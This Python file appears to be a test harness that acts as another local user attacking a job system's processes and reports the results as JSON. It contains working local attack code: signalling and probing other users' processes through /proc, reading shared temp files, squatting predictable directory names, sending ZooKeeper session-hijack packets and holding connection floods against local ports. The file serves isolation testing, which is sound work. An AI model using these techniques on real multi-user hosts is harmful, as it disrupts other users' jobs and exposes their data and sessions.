"""Attack, as another user of the host, whatever runs there, until standard input ends.

A program of its own. It is given the processes to attack by the number of the first of them, a
directory of temporary files that everyone may write, and writes to standard output, as JSON, what
it tried and what it got.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401 - nobody may not be able to read it later
import json
import os
import select
import signal
import socket
import struct
import sys
from collections import Counter
from contextlib import suppress
from pathlib import Path

from support.nobody import BECOME_NOBODY

_HELD = 40
"""Connections kept open and silent for each port."""
_LISTENING = "0A"
_SAYINGS = (
    # ZooKeeper: open a session, take over one, ask for its state.
    struct.pack(">iiqiqi", 45, 0, 0, 30_000, 0, 16) + bytes(17),
    struct.pack(">iiqiqi", 45, 0, 0, 30_000, 0x100000000000000, 16) + bytes(17),
    b"srvr\n",
    b"GET / HTTP/1.0\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    # A length that no message has, and no message.
    b"\x7f\xff\xff\xff" + bytes(64),
    bytes(range(256)) * 8,
)


def listening() -> set[int]:
    """Return the ports on which anything on this host listens."""
    lines = [
        line.split()
        for table in ("tcp", "tcp6")
        for line in Path("/proc/net", table).read_text().splitlines()[1:]
    ]
    return {int(words[1].rpartition(":")[2], 16) for words in lines if words[3] == _LISTENING}


class Attack:
    """Everything that is tried; `got` counts what succeeded, `tried` all."""

    def __init__(self, victim: int, temporary: Path, before: set[int]) -> None:
        self.tried: Counter[str] = Counter()
        self.got: dict[str, str] = {}
        self.answered: dict[int, str] = {}
        self._victim = victim
        self._temporary = temporary
        self._before = before
        self._held: list[socket.socket] = []
        self._flooded: set[int] = set()
        self._made: list[Path] = []

    def once(self) -> None:
        for process in self._processes():
            self._disturb(process)
        for place in (self._temporary, *Path("/dev/shm").glob("*tfos*")):
            self._read(place)
        self._squat()
        for port in listening() - self._before:
            self._call(port)

    def clean(self) -> None:
        for link in self._held:
            link.close()
        for path in self._made:
            with suppress(OSError):
                path.rmdir()

    def _processes(self) -> list[int]:
        """Return the processes of the victim's session: what pl_submit started, or their like."""
        found = []
        for entry in Path("/proc").glob("[0-9]*"):
            with suppress(OSError):
                if (
                    os.getsid(int(entry.name)) == self._victim
                    or b"tfos" in (entry / "cmdline").read_bytes()
                ):
                    found.append(int(entry.name))
        return [each for each in found if each != os.getpid()]

    def _disturb(self, process: int) -> None:
        self.tried["signal"] += 1
        with suppress(PermissionError, ProcessLookupError):
            os.kill(process, signal.SIGSTOP)
            os.kill(process, signal.SIGCONT)
            self.got["signal"] = str(process)
        for name in ("environ", "mem", "fd", "cwd/.", "root/."):
            self.tried["proc"] += 1
            with suppress(OSError):
                os.close(os.open(f"/proc/{process}/{name}", os.O_RDONLY))
                self.got[f"/proc/{name}"] = Path(f"/proc/{process}/cmdline").read_text()[:200]

    def _read(self, place: Path) -> None:
        for directory, _, files in os.walk(place):
            for path in [Path(directory), *(Path(directory, name) for name in files)]:
                if path == place:
                    continue
                self.tried["file"] += 1
                with suppress(OSError):
                    if path.stat().st_uid == os.getuid():
                        continue
                    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                    self.got[str(path)] = oct(path.stat().st_mode)

    def _squat(self) -> None:
        """Take the names that might come next, as far as those that are there tell of them."""
        stems = {path.name for path in self._temporary.iterdir() if path not in self._made}
        runs = {name.split("-")[1] for name in stems if name.startswith("tfos-")}
        guesses = [f"{name}{end}" for name in stems for end in ("-1", ".tmp", ".lock", ".part")]
        roles = ("chief-0", "ps-0", "worker-0", "worker-1")
        guesses += [f"tfos-{run}-{role}-host" for run in runs for role in roles]
        for name in guesses:
            self.tried["name"] += 1
            with suppress(OSError):
                path = self._temporary / name
                path.mkdir(0o777)
                self._made.append(path)

    def _call(self, port: int) -> None:
        for saying in _SAYINGS:
            self.tried["call"] += 1
            with suppress(OSError), socket.create_connection(("127.0.0.1", port), 1.0) as link:
                link.sendall(saying)
                link.settimeout(0.2)
                if heard := link.recv(64):
                    self.answered[port] = repr(heard)
        if port not in self._flooded:
            self._flooded.add(port)
            for _ in range(_HELD):
                with suppress(OSError):
                    self._held.append(socket.create_connection(("127.0.0.1", port), 1.0))


def main() -> None:
    victim, temporary = int(sys.argv[1]), Path(sys.argv[2])
    attack = Attack(victim, temporary, set(json.loads(sys.argv[3])))
    rounds = 0
    try:
        while not select.select([sys.stdin], [], [], 0.5)[0]:
            attack.once()
            rounds += 1
    finally:
        attack.clean()
    found = {
        "rounds": rounds,
        "tried": attack.tried,
        "got": attack.got,
        "answered": attack.answered,
    }
    json.dump(found, sys.stdout)


if __name__ == "__main__":
    exec(BECOME_NOBODY)
    main()
